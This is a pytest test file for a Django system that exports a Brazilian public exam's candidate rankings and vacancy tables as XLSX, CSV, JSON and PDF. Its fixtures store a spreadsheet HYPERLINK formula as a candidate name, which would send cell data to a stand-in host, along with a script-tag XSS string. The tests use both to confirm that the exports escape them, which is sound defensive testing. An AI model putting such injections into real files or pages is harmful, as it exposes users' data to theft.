"""Documents to publish and open data: the vacancy table of a
certame and each published list as PDF (laid out for the Diário Oficial, rendered by the
Celery task), CSV and JSON at stable URLs; XLSX with labelled headers and numbers as numbers.

The cargo: Pirangi (Lei 3.056/2025), 2 vacancies, three candidates in the open list only,
notas 95.5, 80 and 70.25 (AC positions 1, 2, 3). With 2 vacancies every reserve rounds to
0 (art. 8º, §1º: PP 15% × 2 = 0.3, I 3% × 2 = 0.06, Q 2% × 2 = 0.04, fractions under 0.5;
PcD 5% × 2 = 0.1, rounding up would give 1, over 20% of 2 = 0.4): both seats are AC.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from candidatos import chamadas
from certames import carreira
from certames.models import DocumentoPdf
from classificacao import documentos, impressos
from classificacao.listas import publicar, recalcular
from comum import exportacao
from tests.certames.test_chamadas import PRAZO, _homologado
from tests.factories import (
    CandidatoFactory,
    CargoFactory,
    CertameFactory,
    InscricaoFactory,
    usuario,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&C2,"Ver")'
SCRIPT = '<script>alert("x")</script>'
CPF_1 = "11144477735"


@pytest.fixture
def rh(db):
    return usuario("rh_documentos", "RH", staff=True)


@pytest.fixture
def publicacao(rh):
    certame = CertameFactory(numero_edital="12/2026", regime="pirangi-lei3056-2025")
    cargo = CargoFactory(certame=certame, vagas=2, codigo="ENF", nome="Enfermeiro")
    InscricaoFactory(cargo=cargo, numero="000001", nota=Decimal("95.5"),
                     candidato=CandidatoFactory(nome="Ana Civil", nome_social=SCRIPT,
                                                cpf=CPF_1))
    InscricaoFactory(cargo=cargo, numero="000002", nota=Decimal("80"),
                     candidato=CandidatoFactory(nome=FORMULA))
    InscricaoFactory(cargo=cargo, numero="000003", nota=Decimal("70.25"),
                     candidato=CandidatoFactory(nome="Carla Souza"))
    return publicar(recalcular(cargo.pk), "preliminar", autor=rh)


def _url(pub, formato, **trocas):
    cargo = pub.versao.cargo
    args = {"certame_pk": cargo.certame_id, "cargo_pk": cargo.pk, "pk": pub.pk,
            "formato": formato, **trocas}
    return reverse("publicacao_publica", kwargs=args)


def _csv(conteudo: bytes) -> list[list[str]]:
    assert conteudo.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(conteudo.decode("utf-8-sig")), delimiter=";"))


# --- XLSX: labels and cell types ----------------------------------------------------------------


def test_xlsx_da_classificacao_tem_rotulos_e_numeros(client, rh, publicacao):
    client.force_login(rh)
    resposta = client.get(reverse("painel:exportar", args=[publicacao.versao_id, "xlsx"]))
    folha = load_workbook(io.BytesIO(resposta.content)).worksheets[0]
    assert [c.value for c in folha[1]] == [
        "Lista", "Posição", "Inscrição", "Nome", "CPF (mascarado)", "Nota final", "Sub judice",
        "Vaga", "Lista de origem"]
    linhas = list(folha.iter_rows(min_row=2))
    assert [(c[0].value, c[1].value, c[2].value, c[5].value) for c in linhas] == [
        ("AC", 1, "000001", 95.5), ("AC", 2, "000002", 80), ("AC", 3, "000003", 70.25)]
    posicao, nota = linhas[0][1], linhas[0][5]
    assert (posicao.data_type, posicao.number_format) == ("n", "0")
    assert (nota.data_type, nota.number_format) == ("n", "0.0000")  # nota(9,4): 4 decimals
    assert (linhas[1][3].value, linhas[1][3].data_type) == ("'" + FORMULA, "s")
    assert linhas[0][4].value == "***.444.777-**"


def test_xlsx_da_ordem_tem_datas_como_datas(client, rh):
    cargo = _homologado(rh)
    chamadas.convocar(cargo, 1, prazo=PRAZO, autor=rh)
    resposta = client.get(reverse("ordem_nomeacao_publica_exportar",
                                  args=[cargo.certame_id, cargo.pk, "xlsx"]))
    folha = load_workbook(io.BytesIO(resposta.content)).worksheets[0]
    assert [c.value for c in folha[1]][:6] == [
        "Posição", "Vaga", "Lista de origem", "Inscrição", "Nome", "Convocada em"]
    primeira = list(folha.iter_rows(min_row=2))[0]
    convocada, prazo = primeira[5], primeira[6]
    assert (convocada.value, convocada.number_format) == (
        dt.datetime.combine(dt.date.today(), dt.time()), "dd/mm/yyyy")
    assert (prazo.value, prazo.is_date) == (dt.datetime.combine(PRAZO, dt.time()), True)
    # The CSV keeps its snake_case keys and DD/MM/AAAA dates.
    linhas = _csv(client.get(reverse("ordem_nomeacao_publica_exportar",
                                     args=[cargo.certame_id, cargo.pk, "csv"])).content)
    assert linhas[0][5:7] == ["convocada_em", "prazo"]
    assert linhas[1][6] == PRAZO.strftime("%d/%m/%Y")


def test_xlsx_com_chave_sem_rotulo_fica_como_esta():
    folha = load_workbook(io.BytesIO(exportacao.gerar_xlsx(["nota", "outra"], [[1, 2]])))
    assert [c.value for c in folha.worksheets[0][1]] == ["Nota final", "outra"]


# --- open data: CSV and JSON of a publication -----------------------------------------------------


def test_csv_da_publicacao(client, publicacao):
    resposta = client.get(_url(publicacao, "csv"))
    assert resposta["Content-Disposition"] == (
        f'attachment; filename="lista-ENF-preliminar-{publicacao.pk}.csv"')
    assert _csv(resposta.content) == [
        ["lista", "posicao", "inscricao", "nome", "nota", "sub_judice"],
        ["AC", "1", "000001", SCRIPT, "95,5000", "não"],
        ["AC", "2", "000002", "'" + FORMULA, "80,0000", "não"],
        ["AC", "3", "000003", "Carla Souza", "70,2500", "não"],
    ]
    assert CPF_1[3:9].encode() not in resposta.content


def test_json_da_publicacao(client, publicacao):
    resposta = client.get(_url(publicacao, "json"))
    assert resposta["Content-Type"] == "application/json; charset=utf-8"
    dados = json.loads(resposta.content)
    cargo = publicacao.versao.cargo
    assert dados["esquema"] == "certames.publicacao/1"
    assert dados["url"] == "http://testserver" + _url(publicacao, "json")
    assert dados["cargo"] == {"id": cargo.pk, "codigo": "ENF", "nome": "Enfermeiro"}
    assert dados["publicacao"]["id"] == publicacao.pk
    assert dados["publicacao"]["tipo"] == "preliminar"
    assert dados["vagas"]["total"] == 2
    assert [lista["lista"] for lista in dados["listas"]] == ["AC", "PP", "I", "Q", "PCD"]
    assert dados["listas"][0]["candidatos"] == [
        {"posicao": 1, "inscricao": "000001", "nome": SCRIPT, "nota": 95.5,
         "sub_judice": False},
        {"posicao": 2, "inscricao": "000002", "nome": FORMULA, "nota": 80,
         "sub_judice": False},
        {"posicao": 3, "inscricao": "000003", "nome": "Carla Souza", "nota": 70.25,
         "sub_judice": False},
    ]
    assert [(c["posicao"], c["vaga"], c["inscricao"])
            for c in dados["convocacao"]["chamadas"]] == [(1, "AC", "000001"),
                                                          (2, "AC", "000002")]
    # Masked data only: no CPF, not even masked; no civil name behind a social name.
    assert b"cpf" not in resposta.content
    assert CPF_1[3:9].encode() not in resposta.content
    assert b"Ana Civil" not in resposta.content


def test_convocacao_da_publicacao_em_csv(client, publicacao):
    cargo = publicacao.versao.cargo
    resposta = client.get(reverse("publicacao_convocacao_publica",
                                  args=[cargo.certame_id, cargo.pk, publicacao.pk]))
    assert _csv(resposta.content) == [
        ["posicao", "vaga", "lista_de_origem", "inscricao", "nome", "sub_judice"],
        ["1", "AC", "AC", "000001", SCRIPT, "não"],
        ["2", "AC", "AC", "000002", "'" + FORMULA, "não"],
    ]


def test_endereco_estavel_da_os_mesmos_bytes(client, publicacao, rh):
    primeiro = {f: client.get(_url(publicacao, f)).content for f in ("csv", "json")}
    # A new computation and a new publication do not change the first one's files.
    cargo = publicacao.versao.cargo
    InscricaoFactory(cargo=cargo, numero="000004", nota=Decimal("99"))
    nova = publicar(recalcular(cargo.pk), "preliminar", autor=rh)
    assert {f: client.get(_url(publicacao, f)).content for f in ("csv", "json")} == primeiro
    assert len(_csv(client.get(_url(nova, "csv")).content)) == 5


def test_ids_trocados_sao_404(client, publicacao):
    cargo = publicacao.versao.cargo
    outro_cargo = CargoFactory(certame=cargo.certame, codigo="OUT")
    outro_certame = CertameFactory()
    for formato in ("pdf", "csv", "json"):
        assert client.get(_url(publicacao, formato, cargo_pk=outro_cargo.pk)).status_code == 404
        assert client.get(_url(publicacao, formato,
                               certame_pk=outro_certame.pk)).status_code == 404
    assert client.get(_url(publicacao, "xml")).status_code == 404
    assert client.get(reverse("publicacao_convocacao_publica", args=[
        cargo.certame_id, outro_cargo.pk, publicacao.pk])).status_code == 404
    assert DocumentoPdf.objects.count() == 0


def test_publicacao_de_certame_em_rascunho_e_404(client, publicacao):
    certame = publicacao.versao.cargo.certame
    type(certame).objects.filter(pk=certame.pk).update(status="rascunho")
    assert client.get(_url(publicacao, "json")).status_code == 404


# --- the vacancy table ------------------------------------------------------------------------


def test_quadro_de_vagas_em_csv_e_json(client):
    certame = CertameFactory(numero_edital="34/2026", regime="severinia-lei3057-2026")
    CargoFactory(certame=certame, vagas=2, codigo="ENF", nome="Enfermeiro")
    CargoFactory(certame=certame, vagas=5, codigo="MED", nome="Médico")
    linhas = _csv(client.get(reverse("quadro_vagas_publico",
                                     args=[certame.pk, "csv"])).content)
    assert linhas[0] == ["codigo", "cargo", "vagas_edital", "vagas_surgidas", "vagas_total",
                         "AC", "PPI", "PCD", "explicacao"]
    # Severínia, per cargo (rounding: the edital's default, fraction ≥ 0.5 rounds up):
    # 2 vacancies: PPI 30% × 2 = 0.6 → 1; PcD 5% × 2 = 0.1, rounding up would exceed
    # 20% × 2 = 0.4 → 0; AC 1. 5 vacancies: PPI 30% × 5 = 1.5 → 2; PcD 0.25 → 1 (20% × 5 = 1);
    # AC 5 − 2 − 1 = 2.
    assert [linha[:8] for linha in linhas[1:]] == [
        ["ENF", "Enfermeiro", "2", "0", "2", "1", "1", "0"],
        ["MED", "Médico", "5", "0", "5", "2", "2", "1"]]
    resposta = client.get(reverse("quadro_vagas_publico", args=[certame.pk, "json"]))
    assert resposta["Content-Disposition"] == (
        'attachment; filename="quadro-vagas-edital-34-2026.json"')
    dados = json.loads(resposta.content)
    assert dados["esquema"] == "classificacao.quadro_vagas/1"
    assert [(c["codigo"], c["vagas_total"], c["distribuicao"]) for c in dados["cargos"]] == [
        ("ENF", 2, {"AC": 1, "PPI": 1, "PCD": 0}), ("MED", 5, {"AC": 2, "PPI": 2, "PCD": 1})]
    assert dados["cargos"][1]["explicacao"] == linhas[2][8].split(" | ")
    assert dados["cargos"][1]["explicacao"][2] == "AC: 5 − 2 − 1 = 2"
    assert dados["sorteio_pendente"] is False


def test_quadro_de_vagas_com_sorteio_pendente(client, publicacao):
    """Pirangi reserves on the whole edital: with 7 vacancies (2 + 5) the reserved seats
    that do not fit whole in a cargo go to the public draw; before it there is no split, the
    open data lists the cargos and their vacancies and says the draw is pending."""
    certame = publicacao.versao.cargo.certame
    CargoFactory(certame=certame, vagas=5, codigo="MED", nome="Médico")
    dados = json.loads(client.get(reverse("quadro_vagas_publico",
                                          args=[certame.pk, "json"])).content)
    assert dados["sorteio_pendente"] is True
    assert dados["base_edital"] is True
    assert [(c["codigo"], c["vagas_total"], c["distribuicao"]) for c in dados["cargos"]] == [
        ("ENF", 2, {}), ("MED", 5, {})]


def test_ordem_de_nomeacao_em_json(client, rh):
    cargo = _homologado(rh)
    chamadas.convocar(cargo, 2, prazo=PRAZO, autor=rh)
    resposta = client.get(reverse("ordem_nomeacao_publica_exportar",
                                  args=[cargo.certame_id, cargo.pk, "json"]))
    dados = json.loads(resposta.content)
    assert dados["esquema"] == "certames.ordem_nomeacao/1"
    assert [(c["posicao"], c["vaga"], c["inscricao"], c["prazo"]) for c in dados["chamadas"]] == [
        (1, "AC", "201", PRAZO.isoformat()), (2, "PPI", "204", PRAZO.isoformat())]
    assert "cpf" not in dados["chamadas"][0]
    assert dados["fundamento"] == carreira.fundamento_ordem(cargo)


# --- the PDFs -------------------------------------------------------------------------------------


def _baixar(client, url, capturar):
    with capturar(execute=True):
        espera = client.get(url)
    assert "O PDF está sendo gerado" in espera.content.decode()
    primeira = client.get(url)
    segunda = client.get(url)
    corpo = b"".join(primeira.streaming_content)
    assert corpo == b"".join(segunda.streaming_content)  # the stored file, served again
    return primeira, corpo


def _texto(pdf: bytes, tmp_path) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext não instalado")
    caminho = tmp_path / "doc.pdf"
    caminho.write_bytes(pdf)
    return subprocess.run(["pdftotext", "-layout", str(caminho), "-"], check=True,
                          capture_output=True, text=True).stdout


def test_pdf_da_publicacao_pela_tarefa(client, publicacao, django_capture_on_commit_callbacks,
                                       tmp_path):
    resposta, pdf = _baixar(client, _url(publicacao, "pdf"), django_capture_on_commit_callbacks)
    assert pdf.startswith(b"%PDF-")
    assert resposta["Content-Disposition"].startswith(
        f'attachment; filename="lista-ENF-preliminar-{publicacao.pk}.pdf"')
    assert list(DocumentoPdf.objects.values_list("tipo", "cargo_id")) == [
        ("lista_publicada", publicacao.versao.cargo_id)]
    texto = _texto(pdf, tmp_path)
    for trecho in ("Resultado preliminar da classificação", "12/2026", "ENF — Enfermeiro",
                   "Lei 3.056/2025", "Constituição Federal, art. 37", "000002", "95,5000",
                   "Ordem de convocação", "publicado em"):
        assert trecho in texto, trecho
    assert "***.444.777-**" not in texto


def test_pdf_do_rh_tem_cpf_mascarado(client, rh, publicacao, django_capture_on_commit_callbacks,
                                     tmp_path):
    client.force_login(rh)
    _resposta, pdf = _baixar(client, reverse("painel:publicacao_pdf", args=[publicacao.pk]),
                             django_capture_on_commit_callbacks)
    texto = _texto(pdf, tmp_path)
    assert "***.444.777-**" in texto
    assert CPF_1 not in texto


def test_pdf_do_quadro_de_vagas(client, publicacao, django_capture_on_commit_callbacks,
                                tmp_path):
    certame = publicacao.versao.cargo.certame
    CargoFactory(certame=certame, vagas=5, codigo="MED", nome="Médico")  # the draw pending
    resposta, pdf = _baixar(client, reverse("quadro_vagas_publico", args=[certame.pk, "pdf"]),
                            django_capture_on_commit_callbacks)
    assert resposta["Content-Disposition"].startswith(
        'attachment; filename="quadro-vagas-edital-12-2026.pdf"')
    assert "sorteio público das vagas reservadas ainda não foi realizado" in " ".join(
        _texto(pdf, tmp_path).split())
    documento = DocumentoPdf.objects.get()
    assert (documento.tipo, documento.certame_id, documento.cargo_id) == (
        "quadro_vagas", certame.pk, None)
    texto = _texto(pdf, tmp_path)
    for trecho in ("Quadro de vagas", "Edital", "12/2026", "Enfermeiro", "Lei 3.056/2025"):
        assert trecho in texto, trecho


def test_nome_com_marcacao_e_impresso_como_texto_no_pdf(publicacao, tmp_path):
    """The lists are written straight to PDF (comum/pdf/tabular.py): a name holding markup
    or PDF syntax is printed as the characters typed, in both versions."""
    for tipo in (impressos.Tipo.LISTA_PUBLICADA, impressos.Tipo.LISTA_PUBLICADA_RH):
        _pub, _chave, conteudo = impressos.estado(tipo, publicacao.pk)
        pdf = impressos.renderizar(tipo, conteudo)
        assert b"<script" not in pdf  # glyph numbers, never the text itself
        assert SCRIPT in _texto(pdf, tmp_path)


def test_chave_do_pdf_muda_com_a_publicacao(publicacao, rh):
    cargo = publicacao.versao.cargo
    _a, chave_a, _c = impressos.estado(impressos.Tipo.LISTA_PUBLICADA, publicacao)
    InscricaoFactory(cargo=cargo, numero="000009", nota=Decimal("10"))
    outra = publicar(recalcular(cargo.pk), "preliminar", autor=rh)
    _b, chave_b, _d = impressos.estado(impressos.Tipo.LISTA_PUBLICADA, outra)
    _e, chave_a2, _f = impressos.estado(impressos.Tipo.LISTA_PUBLICADA, publicacao)
    assert chave_a == chave_a2 != chave_b
    assert documentos.nome_publicacao(outra) == f"lista-ENF-preliminar-{outra.pk}"


def test_paginas_publicas_ligam_os_arquivos(client, publicacao):
    cargo = publicacao.versao.cargo
    pagina = client.get(reverse("cargo_publico", args=[cargo.certame_id, cargo.pk])).content
    for formato in ("pdf", "csv", "json"):
        assert f'href="{_url(publicacao, formato)}"'.encode() in pagina
    pagina = client.get(reverse("certame_publico", args=[cargo.certame_id])).content
    for formato in ("pdf", "csv", "json"):
        url = reverse("quadro_vagas_publico", args=[cargo.certame_id, formato])
        assert f'href="{url}"'.encode() in pagina
